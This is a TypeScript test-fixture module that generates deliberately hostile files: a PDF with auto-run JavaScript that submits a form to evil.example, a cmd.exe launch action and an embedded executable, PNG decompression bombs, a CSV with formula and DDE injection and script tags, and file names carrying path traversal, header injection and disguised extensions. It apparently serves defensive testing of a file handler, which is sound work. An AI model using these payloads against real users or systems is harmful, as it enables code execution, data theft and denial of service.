/** Files that attack the person or program that opens them. */
import { crc32, deflateSync } from 'node:zlib';

const bytes = (...parts: (string | Uint8Array)[]): Buffer =>
  Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  );

/** The text of an active PDF, which proves that it was drawn. */
export const ACTIVE_TEXT = 'This page is drawn';

const CONTENT = `BT /F1 24 Tf 60 700 Td (${ACTIVE_TEXT}) Tj ET`;

/** Scripts with a visible effect. */
const SCRIPT =
  '(app.alert\\("ran"\\); this.submitForm\\("https://evil.example/"\\); parent.postMessage\\("ran", "*"\\);)';

const objects: readonly string[] = [
  `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >>
     /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(run.exe) 8 0 R] >> >>
     /AcroForm << /Fields [10 0 R] /XFA 11 0 R /CO [10 0 R] >> >>`,
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R
     /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R /C 7 0 R >> /Annots [10 0 R 12 0 R] >>`,
  `<< /Length ${CONTENT.length} >>\nstream\n${CONTENT}\nendstream`,
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  `<< /S /JavaScript /JS ${SCRIPT} /Next 7 0 R >>`,
  '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  '<< /Type /Filespec /F (run.exe) /EF << /F 9 0 R >> >>',
  '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [60 600 300 630] /V (typed)
     /AA << /E 6 0 R /F 6 0 R /K 6 0 R >> /A 6 0 R >>`,
  '<< /Length 44 >>\nstream\n<xdp:xdp xmlns:xdp="x"><script/></xdp:xdp>  \nendstream',
  `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]
     /A << /S /URI /URI (https://evil.example/) >> >>`,
];

/** A PDF with scripts, a launch action, an embedded file, an XFA form, and a link over the whole page. */
export const activePdf = (): Buffer => pdfOf(objects);

/** @param objects the first is the catalogue */
export function pdfOf(objects: readonly string[]): Buffer {
  let file = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`);
  const table = `xref\n0 ${places.length + 1}\n0000000000 65535 f \n${rows.join('')}`;
  const trailer = `trailer << /Size ${places.length + 1} /Root 1 0 R >>`;
  return bytes(`${file}${table}${trailer}\nstartxref\n${file.length}\n%%EOF\n`);
}

function chunk(type: string, data: Uint8Array): Buffer {
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  const named = bytes(type, data);
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(named));
  return bytes(length, named, check);
}

const SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');

const header = (width: number, height: number): Buffer => {
  const size = Buffer.alloc(8);
  size.writeUInt32BE(width);
  size.writeUInt32BE(height, 4);
  // 8 bits of grey, no interlacing.
  return chunk('IHDR', bytes(size, Uint8Array.of(8, 0, 0, 0, 0)));
};

const END = chunk('IEND', new Uint8Array());

/** A small black PNG with a text of 60 MB, compressed to 60 KB. */
export const pngWithLargeText = (): Buffer =>
  bytes(
    SIGNATURE,
    header(8, 8),
    chunk('zTXt', bytes('Comment\0\0', deflateSync(Buffer.alloc(60 * 1024 * 1024)))),
    chunk('IDAT', deflateSync(Buffer.alloc(8 * 9))),
    END,
  );

/** A PNG of two billion pixels, in a few kilobytes. */
export const pngOfManyPixels = (): Buffer =>
  bytes(
    SIGNATURE,
    header(50_000, 40_000),
    chunk('IDAT', deflateSync(Buffer.alloc(1_000_000))),
    END,
  );

/** A CSV with formulas, markup and invisible letters. */
export const hostileCsv = (): Buffer =>
  Buffer.from(
    [
      'Date,Details,Amount',
      '01/06/2026,"=HYPERLINK(""https://evil.example"",""Pay"")",1.00',
      '01/06/2026,<img src=x onerror=parent.postMessage("ran")>,1.00',
      '01/06/2026,<script>parent.postMessage("ran")</script>,1.00',
      '01/06/2026,"@SUM(1+1)*cmd|\' /C calc\'!A0",1.00',
      '01/06/2026,\u202Egnp.exe,1.00',
    ].join('\r\n'),
  );

/** File names with escapes, markup, paths and invisible letters. */
export const hostileNames: readonly string[] = [
  '../../etc/passwd.pdf',
  '..\\..\\windows\\win.pdf',
  '\u001b[2Jstatement.pdf',
  'statement\u202Efdp.exe',
  '<img src=x onerror=alert(1)>.pdf',
  '"; filename="other.pdf',
  'statement\r\nX-Other: 1.pdf',
  '%2e%2e%2fstatement.pdf',
];
